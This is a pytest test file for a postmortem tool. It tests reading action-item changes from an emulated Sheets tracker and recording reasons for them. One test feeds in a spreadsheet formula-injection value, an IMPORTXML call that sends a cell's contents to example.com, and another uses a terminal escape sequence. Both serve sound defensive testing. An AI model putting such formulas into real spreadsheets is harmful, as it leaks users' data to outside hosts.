"""Action items, their changes and reasons, through the emulator and the real clients."""

from __future__ import annotations

import shutil
import sqlite3
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from action_rows import ActionTable
from world import World
from world import new_world as make_world

from pmdocs.core.sheet.tracker import ACTION_ITEMS, CHANGES, PEOPLE, POSTMORTEMS, STATE, WORKSHEETS
from pmdocs.emulator import Emulator
from pmdocs.errors import NotFound, TrackerError, UsageError
from pmdocs.workflows.actions import Actions, ItemFilter, fetch_actions, select_items
from pmdocs.workflows.create import create_postmortem
from pmdocs.workflows.justify import justify
from pmdocs.workflows.sync import sync

READ, WRITE = "sheets.spreadsheets.values.batchGet", "sheets.spreadsheets.batchUpdate"
WHY = "Waiting for the vendor"


def tell(world: World) -> str:
    """INC-7 with three items, two of which promise less since; the document's id. Today is 2026-11-20."""
    report = create_postmortem(world.ports(), world.incident(team="Payments"), lang=world.lang)
    table = ActionTable(world.emulator, report.document_id)
    first = len(table.texts())
    for cells in (
        {
            "action": "Alert on pool exhaustion",
            "priority": "P1",
            "owner": "ada@example.com",
            "due": "2026-12-01",
        },
        {"action": "Roll out zone by zone", "priority": "P0"},
        {"action": "接続数の上限を見直す", "priority": "P2", "owner": "bob@example.com", "due": "2026-11-10"},
    ):
        table.add(**cells)
    sync(world.ports())
    world.clock.sleep(1_000)
    table.change(first, priority="P3", due="2026-12-24")
    table.change(first + 2, due="2026-11-19")
    sync(world.ports())
    world.clock.sleep(1_000)
    world.methods()
    return report.document_id


@pytest.fixture(name="told", scope="module")
def told_(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The files of a workspace with a story, to be copied."""
    directory = tmp_path_factory.mktemp("told") / "world"
    world = make_world(directory, "en")
    world.init()
    tell(world)
    with sqlite3.connect(world.db) as connection:
        connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    connection.close()
    world.emulator.store.close()
    return directory


@pytest.fixture(name="story")
def story_(told: Path, tmp_path: Path) -> Iterator[World]:
    """INC-7 after two syncs: AI-1 was lowered and moved, AI-3 was moved when it was overdue already."""
    directory = tmp_path / "story"
    shutil.copytree(told, directory)
    world = World(Emulator(directory / "w.db"), directory / "w.db")
    yield world
    world.emulator.store.close()


@pytest.fixture(name="read", scope="module")
def read_(told: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Actions]:
    """The story's items, where the People worksheet calls Ada エイダ."""
    directory = tmp_path_factory.mktemp("read") / "world"
    shutil.copytree(told, directory)
    world = World(Emulator(directory / "w.db"), directory / "w.db")
    write_cell(world, "A2", "エイダ", PEOPLE)
    write_cell(world, "B2", "ada@example.com", PEOPLE)
    yield fetch_actions(world.ports())
    world.emulator.store.close()


def column(world: World, name: str, worksheet: Any = ACTION_ITEMS) -> dict[str, str]:
    """A column of a worksheet by the key of its row."""
    header, *rows = world.rows(worksheet.sheet_id)
    shown = {known.key: known.header(world.lang) for known in worksheet.columns}
    place, key = header.index(shown[name]), header.index(shown[worksheet.columns[0].key])
    return {row[key]: row[place] if place < len(row) else "" for row in rows}


def write_cell(world: World, cell: str, text: str, worksheet: Any = ACTION_ITEMS) -> None:
    """A person types into a cell of the tracker."""
    world.emulator.client("sheets").spreadsheets().values().update(
        spreadsheetId=world.settings().workspace.tracker_id,
        range=f"{worksheet.title(world.lang)}!{cell}",
        valueInputOption="USER_ENTERED",
        body={"values": [[text]]},
    ).execute()


def sort(world: World) -> None:
    """A person sorts the action items, the last one first."""
    area = {"sheetId": ACTION_ITEMS.sheet_id, "startRowIndex": 1}
    order = {"range": area, "sortSpecs": [{"dimensionIndex": 0, "sortOrder": "DESCENDING"}]}
    world.emulator.client("sheets").spreadsheets().batchUpdate(
        spreadsheetId=world.settings().workspace.tracker_id, body={"requests": [{"sortRange": order}]}
    ).execute()


def everything(world: World) -> dict[str, list[list[str]]]:
    return {worksheet.key: world.rows(worksheet.sheet_id) for worksheet in WORKSHEETS}


def unexplained(world: World) -> list[tuple[str, str]]:
    return [
        (change.key, change.field)
        for change in fetch_actions(world.ports()).changes
        if change.state == "unjustified"
    ]


# Reading


def test_two_reads_and_no_write(story: World) -> None:
    """Items and changes take two reads, however many there are; without weaker promises one."""
    fetch_actions(story.ports())

    assert [READ, READ] == story.methods()


def test_one_read_where_nothing_changed(ready: World) -> None:
    """Where nothing ever needed a reason one read is enough."""
    actions = fetch_actions(ready.ports())

    assert ((), ()) == (actions.items, actions.changes)
    assert [READ] == ready.methods()


def test_changes_tell_old_and_new(story: World) -> None:
    """Each change has its values, flags and state; moving a date that has passed is flagged."""
    actions = fetch_actions(story.ports())

    assert [
        ("INC-7/AI-1", "due", "2026-12-01", "2026-12-24", "unjustified", ()),
        ("INC-7/AI-1", "priority", "P1", "P3", "unjustified", ()),
        ("INC-7/AI-3", "due", "2026-11-10", "2026-11-19", "unjustified", ("overdue_then_moved",)),
    ] == [
        (change.key, change.field, change.old, change.new, change.state, change.flags)
        for change in sorted(actions.changes, key=lambda one: (one.key, one.field))
    ]
    assert {"INC-7/AI-1": 2, "INC-7/AI-3": 1} == actions.unexplained


@pytest.mark.parametrize(
    ("wanted", "found"),
    [
        ({}, [1, 2, 3]),
        ({"open": True}, [1, 2, 3]),
        ({"overdue": True}, [3]),
        ({"unjustified": True}, [1, 3]),
        ({"owner": "ADA"}, [1]),
        ({"owner": "bob@example.com"}, [3]),
        ({"owner": "エイダ"}, [1]),
        ({"owner": "example.com"}, []),
        ({"team": "payments"}, [1, 2, 3]),
        ({"incident": "ｉｎｃ-7"}, [1, 2, 3]),
        ({"incident": "INC-70"}, []),
        ({"overdue": True, "owner": "ada"}, []),
    ],
)
def test_select_items(read: Actions, wanted: dict[str, Any], found: list[int]) -> None:
    """Filters add up; an owner is known by address, its first part, or a name of the People worksheet."""
    items = select_items(read, ItemFilter(**wanted))

    assert [f"INC-7/AI-{number}" for number in found] == [item.key for item in items]


def test_lost_log_rows_hide_nothing(story: World) -> None:
    """Rows that somebody deleted from the log come back out of the tracker's memory."""
    rows = {"sheetId": CHANGES.sheet_id, "dimension": "ROWS", "startIndex": 2, "endIndex": 4}
    story.emulator.client("sheets").spreadsheets().batchUpdate(
        spreadsheetId=story.settings().workspace.tracker_id,
        body={"requests": [{"deleteDimension": {"range": rows}}]},
    ).execute()

    assert 3 == len(unexplained(story))

    write_cell(story, "D2", "something else", CHANGES)
    assert 3 == len(unexplained(story))


def test_damaged_memory_is_named(story: World) -> None:
    """A damaged base is an error that says where, not a guess."""
    write_cell(story, "D12", "{", STATE)

    with pytest.raises(TrackerError, match="INC-7"):
        fetch_actions(story.ports())


# Rulings


def test_a_ruling_excuses_everywhere(story: World) -> None:
    """A change that a person ruled to be a correction lacks nothing, in whatever list, and stays in the log."""
    for row in (2, 3, 4):
        write_cell(story, f"N{row}", "Correction", CHANGES)
    actions = fetch_actions(story.ports())

    assert {} == actions.unexplained
    assert () == select_items(actions, ItemFilter(unjustified=True))
    assert 3 == len(actions.changes)


def test_japanese_tracker(new_world: Callable[..., World]) -> None:
    """In a Japanese tracker reasons are recorded in its words."""
    world = new_world("ja")
    world.init()
    tell(world)
    justify(world.ports(), "INC-7/AI-3", reason="ベンダーの回答待ち")

    assert "ベンダーの回答待ち" == column(world, "justification")["INC-7/AI-3"]
    assert "理由あり" == world.rows(CHANGES.sheet_id)[-1][7]
    assert [("INC-7/AI-1", "due"), ("INC-7/AI-1", "priority")] == sorted(unexplained(world))


# Justify


def test_a_reason_answers_all_changes_found_together(story: World) -> None:
    """A reason settles the item's changes, stands in the log, its row and the counts, with source cli."""
    report = justify(story.ports(), "inc-7/ai-1", reason=f"  {WHY}\n")

    assert {"due", "priority"} == {change.field for change in report.answered}
    assert [("INC-7/AI-3", "due")] == unexplained(story)
    assert WHY == column(story, "justification")["INC-7/AI-1"]
    assert "" == column(story, "justification")["INC-7/AI-3"]
    assert "1" == column(story, "unjustified", POSTMORTEMS)["INC-7"]
    logged = story.rows(CHANGES.sheet_id)[4:]
    assert [["reason", "due"], ["reason", "priority"]] == [row[3:5] for row in logged]
    assert {(WHY, "justified", WHY, "cli", "tester@laptop")} == {
        (row[5], row[7], row[8], row[9], row[10]) for row in logged
    }


def test_the_next_sync_closes_the_question(story: World) -> None:
    """The sync after a reason resolves the question in the document and leaves the reason as it is."""
    document_id = fetch_actions(story.ports()).items[0].document_id
    table = ActionTable(story.emulator, document_id)
    assert ["OPEN", "OPEN"] == [thread["status"] for thread in table.threads()]
    assert justify(story.ports(), "INC-7/AI-1", reason=WHY).closes
    before = everything(story)
    sync(story.ports())

    assert {"OPEN", "RESOLVED"} == {thread["status"] for thread in table.threads()}
    after = everything(story)
    for name in ("action_items", "changes"):
        assert before[name] == after[name]


def test_one_field_only(story: World) -> None:
    """A reason for one field leaves the others waiting, and the question open; a second one answers them."""
    report = justify(story.ports(), "INC-7/AI-1", reason=WHY, field="due")

    assert ["due"] == [change.field for change in report.answered]
    assert ["priority"] == [change.field for change in report.waiting]
    assert not report.closes
    assert justify(story.ports(), "INC-7/AI-1", reason="The alert exists elsewhere").closes
    assert f"{WHY}\nThe alert exists elsewhere" == column(story, "justification")["INC-7/AI-1"]


def test_twice_is_once(story: World) -> None:
    """Giving a reason again writes nothing, also after a sync."""
    justify(story.ports(), "INC-7/AI-1", reason=WHY)
    before = everything(story)
    story.methods()
    report = justify(story.ports(), "INC-7/AI-1", reason=f"{WHY}.")

    assert ((), ()) == (report.answered, report.lines)
    assert WRITE not in story.methods()
    assert before == everything(story)
    sync(story.ports())
    assert () == justify(story.ports(), "INC-7/AI-1", reason=WHY).answered


def test_dry_run(story: World) -> None:
    """A dry run says what would be written, and writes nothing."""
    before = everything(story)
    story.methods()
    report = justify(story.ports(), "INC-7/AI-1", reason=WHY, dry_run=True)

    assert f"Action items, INC-7/AI-1: Justification (empty) → {WHY}" == report.lines[0]
    assert {READ} == set(story.methods())
    assert before == everything(story)


def test_peoples_words_stay(story: World) -> None:
    """What somebody typed beside the item keeps its place, also when no sync has seen it yet."""
    write_cell(story, "M2", "Ken: see the thread\nof Tuesday")
    justify(story.ports(), "INC-7/AI-1", reason=WHY)

    assert f"Ken: see the thread\nof Tuesday\n{WHY}" == column(story, "justification")["INC-7/AI-1"]
    sync(story.ports())
    assert f"Ken: see the thread\nof Tuesday\n{WHY}" == column(story, "justification")["INC-7/AI-1"]


def test_a_deleted_row_gets_the_reason_back(story: World) -> None:
    """Where a person deleted the item's row, the reason is there when sync brings the row back."""
    rows = {"sheetId": ACTION_ITEMS.sheet_id, "dimension": "ROWS", "startIndex": 1, "endIndex": 2}
    story.emulator.client("sheets").spreadsheets().batchUpdate(
        spreadsheetId=story.settings().workspace.tracker_id,
        body={"requests": [{"deleteDimension": {"range": rows}}]},
    ).execute()
    justify(story.ports(), "INC-7/AI-1", reason=WHY)
    sync(story.ports())

    assert WHY == column(story, "justification")["INC-7/AI-1"]


def test_text_stays_text(story: World) -> None:
    """A reason that looks like a formula is none."""
    reason = '=IMPORTXML("https://example.com/?"&A1,"//a") blocks us'
    justify(story.ports(), "INC-7/AI-1", reason=reason)

    assert reason == column(story, "justification")["INC-7/AI-1"]


@pytest.mark.parametrize(
    "reason", ["", "TBD", "なし", "why?", "OK", "了解です", "変更しました", "x" * 2_001, "vendor \x1b[2J"]
)
def test_no_reason(story: World, reason: str) -> None:
    """Placeholders, questions and mere nods are refused before anything is read."""
    with pytest.raises(UsageError):
        justify(story.ports(), "INC-7/AI-1", reason=reason)

    assert [] == story.methods()


@pytest.mark.parametrize("key", ["INC-7/AI-9", "INC-8/AI-1", "INC-9", "", "nonsense/"])
def test_unknown_key(story: World, key: str) -> None:
    """A key that the tracker does not have is named."""
    with pytest.raises(NotFound):
        justify(story.ports(), key, reason=WHY)

    assert WRITE not in story.methods()


@pytest.mark.parametrize(("key", "field"), [("INC-7/AI-2", None), ("INC-7/AI-1", "status")])
def test_nothing_to_justify(story: World, key: str, field: str | None) -> None:
    """Where no change lacks a reason none is kept for later: it would not count."""
    with pytest.raises(UsageError, match="lacks a reason"):
        justify(story.ports(), key, reason=WHY, field=field)

    assert WRITE not in story.methods()


def test_an_old_text_is_no_new_reason(story: World) -> None:
    """What answered an earlier change of the item does not answer a later one."""
    justify(story.ports(), "INC-7/AI-3", reason=WHY)
    document_id = fetch_actions(story.ports()).items[0].document_id
    table = ActionTable(story.emulator, document_id)
    table.change(len(table.texts()) - 1, due="2026-12-30")
    sync(story.ports())

    with pytest.raises(UsageError, match="before this change"):
        justify(story.ports(), "INC-7/AI-3", reason=WHY)
    assert ["due"] == [
        change.field for change in justify(story.ports(), "INC-7/AI-3", reason="Audit").answered
    ]


# Others at work


@pytest.mark.parametrize("phase", ["before", "after"])
@pytest.mark.parametrize("number", [1, 2, 3])
def test_two_at_once(story: World, number: int, phase: str) -> None:
    """Two people who give reasons at once both succeed, and nothing is doubled."""
    other = story.ports()

    def meanwhile() -> None:
        justify(other, "INC-7/AI-3", reason="Audit")

    story.at(number, phase, meanwhile)
    justify(story.ports(), "INC-7/AI-1", reason=WHY)

    assert [] == unexplained(story)
    assert {"INC-7/AI-1": WHY, "INC-7/AI-2": "", "INC-7/AI-3": "Audit"} == column(story, "justification")
    assert 3 == sum(row[3] == "reason" for row in story.rows(CHANGES.sheet_id))


@pytest.mark.parametrize("phase", ["before", "after"])
@pytest.mark.parametrize("number", [1, 2, 3])
def test_sorted_meanwhile(story: World, number: int, phase: str) -> None:
    """A reason stands beside its key however the sheet is sorted while it is written."""
    story.at(number, phase, lambda: sort(story))
    justify(story.ports(), "INC-7/AI-1", reason=WHY)

    assert {"INC-7/AI-1": WHY, "INC-7/AI-2": "", "INC-7/AI-3": ""} == column(story, "justification")
    assert ["INC-7/AI-3", "INC-7/AI-2", "INC-7/AI-1"] == list(column(story, "justification"))


def test_lost_answer(story: World) -> None:
    """When the answer of the write is lost, the reason is there once."""
    story.fault(WRITE, when="after")
    justify(story.ports(), "INC-7/AI-1", reason=WHY)

    assert [("INC-7/AI-3", "due")] == unexplained(story)
    assert 2 == sum(row[3] == "reason" for row in story.rows(CHANGES.sheet_id))
    assert WHY == column(story, "justification")["INC-7/AI-1"]
